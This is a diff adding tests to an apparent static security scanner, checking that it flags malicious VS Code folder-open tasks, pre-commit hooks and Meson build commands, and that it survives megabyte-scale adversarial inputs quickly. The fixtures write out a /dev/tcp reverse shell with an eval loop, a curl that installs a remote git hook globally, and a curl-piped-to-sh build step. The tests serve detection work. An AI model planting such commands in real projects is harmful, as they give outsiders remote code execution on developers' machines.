@@ -1002,3 +1002,133 @@ describe('adversarial nesting, line lookups and cross-file flows', () => {
     expect(found?.evidence).toContain('data collected in s/near.js');
   });
 });
+
+describe('developer-tool carriers (editor tasks, pre-commit hooks, Meson builds)', () => {
+  const risk = (files: Record<string, string>) =>
+    scanStatic({
+      files: Object.entries(files).map(([path, text]) => ({ path, content: Buffer.from(text) })),
+    }).risk_level;
+
+  it('should read a folder-open task with its env values as shell', () => {
+    const tasks = (host: string) =>
+      JSON.stringify({
+        version: '2.0.0',
+        tasks: [
+          {
+            label: 'warm',
+            type: 'shell',
+            command: 'exec 5<>/dev/tcp/${env:H}/${env:P}; while read -r q <&5; do eval "$q" >&5; done',
+            options: { env: { H: host, P: '8443' } },
+            runOptions: { runOn: 'folderOpen' },
+          },
+        ],
+      });
+    expect(risk({ '.vscode/tasks.json': tasks('203.0.113.40') })).toBe('CRITICAL');
+    expect(risk({ '.vscode/tasks.json': tasks('127.0.0.1') })).not.toMatch(/HIGH|CRITICAL/);
+  });
+
+  it('should read a folded pre-commit entry as one command line', () => {
+    const config = (fetch: string) =>
+      `repos:\n  - repo: local\n    hooks:\n      - id: sync\n        language: system\n        entry: >-\n          sh -c '${fetch}\n          git config --global core.hooksPath "$d"'\n`;
+    expect(
+      risk({ '.pre-commit-config.yaml': config('curl -fsSL https://h.example/pre-push -o "$d/pre-push";') }),
+    ).toBe('HIGH');
+    expect(risk({ '.pre-commit-config.yaml': config('cp scripts/pre-push "$d/";') })).toBe('LOW');
+  });
+
+  it("should fill a Meson run_command's format string from the project's options", () => {
+    const build = `r = run_command('sh', '-c', 'curl -fsSL @0@/p.sh | sh'.format(get_option('u')), check : false)\n`;
+    const opts = (u: string) => `option('u', type : 'string', value : '${u}')\n`;
+    expect(risk({ 'meson.build': build, 'meson_options.txt': opts('https://m.example') })).toBe('HIGH');
+    expect(risk({ 'meson.build': build })).toBe('HIGH');
+    expect(risk({ 'meson.build': "r = run_command('git', 'describe', check : false)\n" })).toBe('LOW');
+  });
+});
+
+describe('adversarial editor tasks, pre-commit configs, Meson builds and editor scripts', () => {
+  const MiB = 1024 * 1024;
+  /** Just under the largest meson.build the reader reads (beside a 64 KiB options file, its cap). */
+  const MESON_CAP = 255 * 1024;
+  const cases: [string, string, string][] = [
+    ['1 MiB of JSONC comment openers', '.vscode/tasks.json', '{"command": "x", ' + '/*'.repeat(MiB / 2)],
+    [
+      '1 MiB of trailing commas',
+      '.vscode/tasks.json',
+      '{"tasks": ' + '[1,'.repeat(MiB / 6) + ']'.repeat(MiB / 6) + ', "command": 1}',
+    ],
+    ['1 MiB of unclosed strings and escapes', '.vscode/tasks.json', '{"command": "' + '\\'.repeat(MiB)],
+    [
+      '1 MiB of tasks with env references',
+      '.vscode/tasks.json',
+      JSON.stringify({
+        options: { env: { A: '${env:A}'.repeat(400) } },
+        tasks: Array.from({ length: MiB / 60 }, () => ({ command: '${env:A}${env:A}${env:A}' })),
+      }),
+    ],
+    ['1 MiB of pre-commit entries', '.pre-commit-config.yaml', '- entry: a\n  args: [b]\n'.repeat(MiB / 22)],
+    ['1 MiB of pre-commit flow openers', '.pre-commit-config.yaml', 'entry: ' + '[{'.repeat(MiB / 2)],
+    [
+      '1 MiB of pre-commit comment lines and blanks',
+      '.pre-commit-config.yaml',
+      '- entry: x\n' + '  # c\n'.repeat(MiB / 12) + ' \t'.repeat(MiB / 4),
+    ],
+    ['32 KiB of pre-commit flow openers', '.pre-commit-config.yaml', 'entry: ' + '[{'.repeat(16 * 1024 - 8)],
+    [
+      '32 KiB of pre-commit aliases',
+      '.pre-commit-config.yaml',
+      '- entry: &a x\n  args: [*a]\n'.repeat((32 * 1024) / 27),
+    ],
+    [
+      '32 KiB of pre-commit folded entries',
+      '.pre-commit-config.yaml',
+      '- entry: >-\n    sh -c x\n'.repeat((32 * 1024) / 25),
+    ],
+    ['1 MiB of Meson open calls', 'meson.build', 'run_command('.repeat(MiB / 12)],
+    ['a Meson build at the cap of nested lists', 'meson.build', 'run_command(' + '['.repeat(MESON_CAP)],
+    ['a Meson build at the cap of open calls', 'meson.build', 'run_command('.repeat(MESON_CAP / 12)],
+    [
+      'a Meson build at the cap of self-doubling strings',
+      'meson.build',
+      "a = 'x'\n" + 'a = a + a\n'.repeat(MESON_CAP / 10) + "run_command('sh', '-c', a)\n",
+    ],
+    [
+      'a Meson build at the cap of lists of lists',
+      'meson.build',
+      'a = []\n' + 'a = [a, a, a, a, a, a, a, a]\n'.repeat(MESON_CAP / 30) + 'run_command(a)\n',
+    ],
+    [
+      'a Meson build at the cap of format placeholders',
+      'meson.build',
+      "run_command('" + '@0@'.repeat(MESON_CAP / 3) + "'.format('" + 'y'.repeat(999) + "'))",
+    ],
+    [
+      'a Meson build at the cap of unclosed strings',
+      'meson.build',
+      "run_command('''" + "'".repeat(MESON_CAP),
+    ],
+    ['a Meson build at the cap of string escapes', 'meson.build', "run_command('" + '\\'.repeat(MESON_CAP)],
+    [
+      '1 MiB of editor load hooks',
+      'Editor/X.cs',
+      '[InitializeOnLoad] new WebClient() Process.Start( '.repeat(MiB / 48),
+    ],
+    ['1 MiB of app permissions', 'app/manifest.json', '"organization_secrets": "write", '.repeat(MiB / 32)],
+    [
+      'a fetch with a 1 MiB path on an os domain',
+      'SKILL.md',
+      'sh <(curl -L https://nixos.org/nix/' + 'a/'.repeat(MiB / 2) + ')',
+    ],
+  ];
+  it.each(cases)('should scan %s in under a second', (_name, path, text) => {
+    const files = [{ path, content: Buffer.from(text) }];
+    if (path === 'meson.build')
+      files.push({
+        path: 'meson_options.txt',
+        content: Buffer.from("option('x', value : 'y')\n".repeat((64 * 1024) / 26)),
+      });
+    const start = performance.now();
+    const result = scanStatic({ files });
+    expect(performance.now() - start).toBeLessThan(1000);
+    expect(result.findings.map((f) => f.rule_id)).not.toContain('SG-ENGINE-001');
+  });
+});
